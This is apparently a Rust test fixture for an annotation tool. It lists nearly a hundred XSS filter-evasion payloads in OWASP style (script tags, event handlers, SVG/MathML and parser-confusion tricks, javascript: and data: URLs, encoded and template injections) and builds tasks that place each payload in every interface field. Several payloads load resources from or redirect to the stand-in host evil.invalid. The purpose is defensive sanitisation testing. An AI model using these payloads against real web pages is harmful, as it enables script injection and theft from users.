//! Texts that try to break out of a page, and a task of each interface with one in every field.
//!
//!
//! The tricks follow the ideas of OWASP's published list for testers of filters. Each tries to
//! set `window.brokeOut`, to open a dialog, to fetch from another host or to leave the page. A new
//! interface needs a line in [`tasks`], or the test says that it has none.

use serde_json::{Map, Value, json};

/// The texts. Hosts are names that exist nowhere.
pub(crate) const TRICKS: &[&str] = &[
    // Scripts, plain and in disguise.
    "<script>window.brokeOut=1</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>window.brokeOut=1</scr</script>ipt>",
    "<script\u{b}type=module>window.brokeOut=1</script>",
    "\"><script>window.brokeOut=1</script>",
    "'-(window.brokeOut=1)-'",
    "</script><script>window.brokeOut=1</script>",
    "<script>window.brokeOut=1",
    "<template><script>window.brokeOut=1</script></template>",
    "<noscript><p title=\"</noscript><script>window.brokeOut=1</script>\">",
    // Handlers.
    "<img src=x onerror=window.brokeOut=1>",
    "<img src=x:x onerror=alert(1)//",
    "<img/src/onerror=window.brokeOut=1>",
    "<img src=`x`onerror=window.brokeOut=1>",
    "\" autofocus onfocus=window.brokeOut=1 x=\"",
    "' onmouseover='window.brokeOut=1' tabindex=0 autofocus onfocus='window.brokeOut=1",
    "<details open ontoggle=window.brokeOut=1><summary>a</summary></details>",
    "<input autofocus onfocus=window.brokeOut=1>",
    "<body onload=window.brokeOut=1>",
    "<audio src onloadstart=window.brokeOut=1>",
    "<video><source onerror=window.brokeOut=1></video>",
    "<marquee onstart=window.brokeOut=1>a</marquee>",
    "<p style=animation-name:x onanimationstart=window.brokeOut=1>a",
    "<div popover id=x onbeforetoggle=window.brokeOut=1>a</div><button popovertarget=x autofocus>b</button>",
    "<xss contenteditable autofocus onfocus=window.brokeOut=1>a</xss>",
    // SVG and MathML.
    "<svg onload=window.brokeOut=1>",
    "<svg><script>window.brokeOut=1</script></svg>",
    "<svg><script href=data:,window.brokeOut=1 />",
    "<svg><animate onbegin=window.brokeOut=1 attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:window.brokeOut=1 /><text x=20 y=20>a</text></a></svg>",
    "<svg><set onbegin=window.brokeOut=1 attributeName=x>",
    "<svg><foreignObject><iframe onload=window.brokeOut=1></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>window.brokeOut=1</script></svg>#x\">",
    "<math><a xlink:href=javascript:window.brokeOut=1>a</a></math>",
    "<math href=javascript:window.brokeOut=1>a</math>",
    // Addresses.
    "<a href=javascript:window.brokeOut=1>a</a>",
    "<a href=\" &#14; java&Tab;script&colon;window.brokeOut=1\">a</a>",
    "<a href=\"data:text/html,<script>window.brokeOut=1</script>\">a</a>",
    "<a href=vbscript:window.brokeOut=1>a</a>",
    "<a href=/end_session ping=//evil.invalid/ping>a</a>",
    "javascript:window.brokeOut=1",
    "javascript://https://example.org/%0Awindow.brokeOut=1",
    "data:text/html,<script>window.brokeOut=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuYnJva2VPdXQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.brokeOut=1'/>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>window.brokeOut=1</script></svg>\">",
    "<img src=data:text/html,x>",
    "<img src=/end_session>",
    // What frames, leads away or takes the page over.
    "<iframe src=javascript:window.top.brokeOut=1></iframe>",
    "<iframe srcdoc='<script>window.top.brokeOut=1</script>'></iframe>",
    "<object data=javascript:window.brokeOut=1></object>",
    "<embed src=//evil.invalid/x.swf>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<link rel=prefetch href=//evil.invalid/x>",
    "<form action=//evil.invalid/><button autofocus>a</button></form>",
    "<button formaction=javascript:window.brokeOut=1>a</button>",
    "<div id=card-area></div><div id=answers name=status></div><a id=question name=body>a</a>",
    "<div class='action-bar answers' data-answer=accept data-task-id=x data-option=1>a</div>",
    // Styles.
    "<style>@import '//evil.invalid/x.css'; body { display: none }</style>",
    "<p style=\"position:fixed;inset:0;background:url(//evil.invalid/x.png)\">a</p>",
    "<style><img src=\"</style><img src=x onerror=window.brokeOut=1>\">",
    // Parsers that disagree.
    "<svg></p><style><a id=\"</style><img src=1 onerror=window.brokeOut=1>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.brokeOut=1&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.brokeOut=1>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=window.brokeOut=1></style></annotation-xml></math>",
    "<!--><img src=x onerror=window.brokeOut=1>-->",
    "<!--!><img src=x onerror=window.brokeOut=1>--!>",
    "<![CDATA[><img src=x onerror=window.brokeOut=1>]]>",
    "<title><a title=\"</title><img src=x onerror=window.brokeOut=1>\">",
    "<textarea><a title=\"</textarea><img src=x onerror=window.brokeOut=1>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=window.brokeOut=1>\">",
    "<plaintext><img src=x onerror=window.brokeOut=1>",
    "<select><style></select><img src=x onerror=window.brokeOut=1></style></select>",
    "<table><td><svg><desc><td><img src=x onerror=window.brokeOut=1>",
    "<? <p title=\"?><img src=x onerror=window.brokeOut=1>\"> ?>",
    // Entities, and what is written in other ways.
    "&lt;img src=x onerror=window.brokeOut=1&gt;",
    "&#60;script&#62;window.brokeOut=1&#60;/script&#62;",
    "&amp;lt;script&amp;gt;window.brokeOut=1&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003ewindow.brokeOut=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.brokeOut=1%3C/script%3E",
    "+ADw-script+AD4-window.brokeOut=1+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}window.brokeOut=1\u{ff1c}/script\u{ff1e}",
    "\u{202e}<img src=x onerror=window.brokeOut=1>",
    // Templates.
    "{{constructor.constructor('window.brokeOut=1')()}}",
    "{{{__proto__.constructor.constructor('window.brokeOut=1')()}}}",
    "{{#text}}{{{text}}}{{/text}}",
    "${window.brokeOut=1}",
    "<%= window.brokeOut=1 %>",
    "[click](javascript:window.brokeOut=1) ![a](x\"onerror=\"window.brokeOut=1)",
    // Names that every object has.
    "__proto__",
    "constructor",
];

/// A template that puts a text where markup is, inside and outside of quotation marks.
pub(crate) const TEMPLATE: &str =
    "<p title={{text}} lang='{{text}}'>{{text}} {{{text}}}</p><a href=\"{{text}}\">a</a>";

/// Tasks for an interface with a trick in every field that it shows; nothing for one that is not
/// known here.
pub(crate) fn tasks(interface: &str, trick: &str) -> Option<Vec<Value>> {
    let length = trick.chars().count();
    let tokens = json!([{"text": trick, "start": 0, "end": length, "id": 0, "ws": false}]);
    let span =
        json!([{"start": 0, "end": length, "label": trick, "token_start": 0, "token_end": 0}]);
    let options = json!([
        {"id": trick, "text": trick}, {"id": 1, "html": trick}, {"id": 2, "image": trick, "text": trick},
    ]);
    let plain = json!({"text": trick, "label": trick});
    let with = |more: Value| {
        let mut task = plain.clone();
        merge(&mut task, more);
        task
    };
    let picture = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
    let documents = [
        json!({"html": trick, "title": trick}),
        json!({"body": format!("before {trick} after"), "title": trick}),
        json!({"context_before": trick, "context_after": [trick], "title": trick}),
    ];
    let of_kind = |more: &Value| -> Vec<Value> {
        documents
            .iter()
            .map(|document| {
                let mut task = with(more.clone());
                merge(&mut task, document.clone());
                task
            })
            .collect()
    };
    let tasks = match interface {
        // Its content is drawn like that of `text`.
        "classification" => vec![with(json!({"html": trick, "title": trick, "spans": span}))],
        "text" => {
            let mut all = of_kind(&json!({"spans": span}));
            all.push(with(json!({"image": trick})));
            all
        }
        "html" => {
            vec![with(json!({"html": trick})), with(json!({"config": {"html_template": TEMPLATE}}))]
        }
        "choice" => vec![with(json!({"options": options, "html": trick}))],
        "ner" | "spans" | "ner_manual" | "spans_manual" | "pos" | "pos_manual" => vec![
            with(json!({"spans": span, "tokens": tokens})),
            with(json!({"spans": span})),
            with(json!({"html": trick, "title": trick})),
        ],
        "dep" => {
            vec![with(json!({"tokens": tokens, "arcs": [{"head": 0, "child": 0, "label": trick}]}))]
        }
        "relations" => vec![with(json!({
            "tokens": tokens, "spans": span,
            "relations": [{"head": 0, "child": 0, "label": trick, "head_span": span[0], "child_span": span[0]}],
        }))],
        "image" | "image_manual" => vec![with(json!({
            "image": picture, "width": 10, "height": 10,
            "spans": [{"label": trick, "type": "rect", "points": [[1, 1], [1, 5], [5, 5], [5, 1]]}],
        }))],
        "audio" | "audio_manual" => vec![with(json!({
            "audio": "data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAIA+AAACABAAZGF0YQAAAAA=",
            "audio_spans": [{"start": 0, "end": 1, "label": trick}],
        }))],
        "text_input" => {
            let field = json!({
                "field_label": trick, "field_placeholder": trick, "field_suggestions": [trick, trick],
                "user_input": trick, "html": trick,
            });
            let mut several = field.clone();
            merge(&mut several, json!({"field_rows": 3, "field_id": trick_as_key(trick)}));
            vec![with(field), with(several)]
        }
        "compare" | "diff" => vec![
            json!({"input": trick, "accept": trick, "reject": "", "mapping": {trick: trick}}),
            json!({
                "input": {"html": trick}, "accept": {"html": trick, "text": trick},
                "reject": {"text": trick, "image": trick},
            }),
        ],
        "llm_io" => vec![
            json!({"prompt": trick, "response": trick}),
            json!({"llm": {"prompt": trick, "response": {"html": trick}}}),
        ],
        "blocks" | "pages" => made_of_others(interface, trick, &options, &span, &tokens),
        "review" => vec![with(json!({
            "view_id": "text", "versions": [{"text": trick, "answer": "accept", "sessions": [trick]}],
        }))],
        _ => return None,
    };
    Some(tasks)
}

/// The same for interfaces that are made of others.
pub(crate) fn made_of_others(
    interface: &str,
    trick: &str,
    options: &Value,
    span: &Value,
    tokens: &Value,
) -> Vec<Value> {
    if interface == "blocks" {
        return vec![
            json!({"text": trick, "label": trick, "options": options, "spans": span, "html": trick,
                "config": {"blocks": [
                    {"view_id": "html", "html_template": TEMPLATE},
                    {"view_id": "html", "html_template": trick.replace("{{", "")},
                    {"view_id": "ner_manual"},
                    {"view_id": "choice", "text": null, "html": trick, "label": trick},
                    {"view_id": "text_input", "field_label": trick, "field_suggestions": [trick]},
                    {"view_id": "diff", "input": {"html": trick}, "accept": "", "reject": trick},
                ]},
            }),
        ];
    }
    vec![json!({"pages": [
        {"view_id": "choice", "html": trick, "options": options, "label": trick, trick: trick},
        {"view_id": "blocks", "text": trick, "config": {"blocks": [
            {"view_id": "html", "html_template": TEMPLATE}, {"view_id": "text", "html": trick},
        ]}},
        {"view_id": "compare", "input": {"html": trick}, "accept": trick, "reject": {"html": trick}},
        {"view_id": "ner_manual", "text": trick, "spans": span, "tokens": tokens},
    ]})]
}

/// A key of the answer may not begin with an underscore, which is annotd's.
pub(crate) fn trick_as_key(trick: &str) -> String {
    format!("k{trick}")
}

pub(crate) fn merge(into: &mut Value, more: Value) {
    if let (Value::Object(into), Value::Object(more)) = (into, more) {
        into.extend(more);
    }
}

/// What every task has besides: the facts in its corner, and unknown keys.
pub(crate) fn furnished(mut task: Value, trick: &str, n: usize) -> Value {
    let mut meta = Map::new();
    meta.insert("n".into(), n.into());
    meta.insert(trick.to_owned(), trick.into());
    meta.insert("source".into(), format!("https://evil.invalid/{trick}").into());
    meta.insert("html".into(), trick.into());
    merge(
        &mut task,
        json!({"meta": meta, "_clean": {"/html": trick, "": trick}, "_parts": [trick]}),
    );
    task
}
